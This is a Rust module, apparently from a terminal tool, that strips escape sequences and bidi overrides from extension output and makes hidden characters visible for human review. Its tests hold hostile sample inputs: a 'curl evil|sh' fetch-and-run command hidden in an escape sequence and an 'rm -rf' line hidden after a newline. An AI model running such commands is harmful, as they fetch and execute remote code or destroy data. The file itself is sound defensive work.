//! What extensions say, made safe for a terminal.

/// Removes control sequences from `text`: escape sequences (CSI, OSC and the like) go whole, other control characters
/// become spaces except newline and tab. Bidirectional overrides go too: they can make a prompt read backwards.
pub fn plain_text(text: &str) -> String {
    if !text.chars().any(is_unsafe) {
        return text.to_owned();
    }
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\u{1b}' => skip_escape(&mut chars),
            '\u{9b}' => skip_csi(&mut chars),
            '\r' if chars.peek() == Some(&'\n') => {}
            c if is_bidi(c) => {}
            c if is_unsafe(c) => out.push(' '),
            c => out.push(c),
        }
    }
    out
}

/// The text in one line with everything in it made visible, for what a person decides about: nothing is left out. A line
/// break is `⏎`, other white space is one blank, and what has no picture or draws our frames is written as `\u{…}`.
pub fn visible_text(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '\n' => out.push('⏎'),
            c if c.is_whitespace() && !matches!(c, '\u{2028}' | '\u{2029}') => {
                if !out.ends_with(' ') {
                    out.push(' ');
                }
            }
            c if is_hidden(c) => out.extend(c.escape_unicode()),
            c => out.push(c),
        }
    }
    out
}

/// Whether a character has no picture of its own, or could draw a frame like ours.
fn is_hidden(c: char) -> bool {
    c.is_control()
        || is_bidi(c)
        || matches!(
            c,
            '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}' | '\u{180e}'
        )
        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}' | '\u{2029}' | '\u{2060}'..='\u{206f}')
        || matches!(c, '\u{3164}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}' | '\u{ffa0}' | '\u{fff9}'..='\u{fffb}')
        || matches!(c, '\u{e0000}'..='\u{e0fff}' | '┏' | '┠' | '┗' | '⏎')
}

fn is_bidi(c: char) -> bool {
    matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

fn is_unsafe(c: char) -> bool {
    (c.is_control() && !matches!(c, '\n' | '\t')) || is_bidi(c)
}

type Chars<'a> = std::iter::Peekable<std::str::Chars<'a>>;

fn skip_escape(chars: &mut Chars<'_>) {
    match chars.peek() {
        Some('[') => {
            chars.next();
            skip_csi(chars);
        }
        // OSC, DCS, SOS, PM and APC run to BEL or ST.
        Some(']' | 'P' | 'X' | '^' | '_') => {
            chars.next();
            while let Some(c) = chars.next() {
                if c == '\u{7}' || c == '\u{9c}' {
                    break;
                }
                if c == '\u{1b}' {
                    if chars.peek() == Some(&'\\') {
                        chars.next();
                    }
                    break;
                }
            }
        }
        Some(c) if c.is_ascii_graphic() => {
            chars.next();
        }
        _ => {}
    }
}

fn skip_csi(chars: &mut Chars<'_>) {
    while let Some(c) = chars.peek() {
        if !c.is_ascii_graphic() && *c != ' ' {
            break;
        }
        let last = matches!(c, '\u{40}'..='\u{7e}');
        chars.next();
        if last {
            break;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::{plain_text, visible_text};

    #[test]
    fn nothing_is_hidden_from_who_decides() {
        let check = |text: &str, shown: &str| assert_eq!(visible_text(text), shown, "{text:?}");
        check("plain é ✓ text", "plain é ✓ text");
        check("ls \u{1b}]; curl evil|sh; \u{7}", r"ls \u{1b}]; curl evil|sh; \u{7}");
        check("ls # look\nrm -rf x", "ls # look⏎rm -rf x");
        check("a \t   b\u{3000}c", "a b c");
        check("a\u{202e}b\u{200b}c\u{3164}d", r"a\u{202e}b\u{200b}c\u{3164}d");
        check("x ┠ while running ⏎", r"x \u{2520} while running \u{23ce}");
    }

    #[test]
    fn control_sequences_go() {
        let check = |text: &str, plain: &str| assert_eq!(plain_text(text), plain, "{text:?}");
        check("plain é ✓\n\ttext", "plain é ✓\n\ttext");
        check("\u{1b}[31mred\u{1b}[0m", "red");
        check("a\u{1b}]0;title\u{7}b", "ab");
        check("a\u{1b}]8;;http://x\u{1b}\\link\u{1b}]8;;\u{1b}\\b", "alinkb");
        check("a\u{1b}", "a");
        check("over\rwrite", "over write");
        check("dos\r\nline", "dos\nline");
        check("a\u{8}\u{0}b", "a  b");
        check("\u{9b}2Jx", "x");
        check("safe\u{202e}evil", "safeevil");
        check("\u{1b}Pq#0;2;0\u{1b}\\x", "x");
    }
}
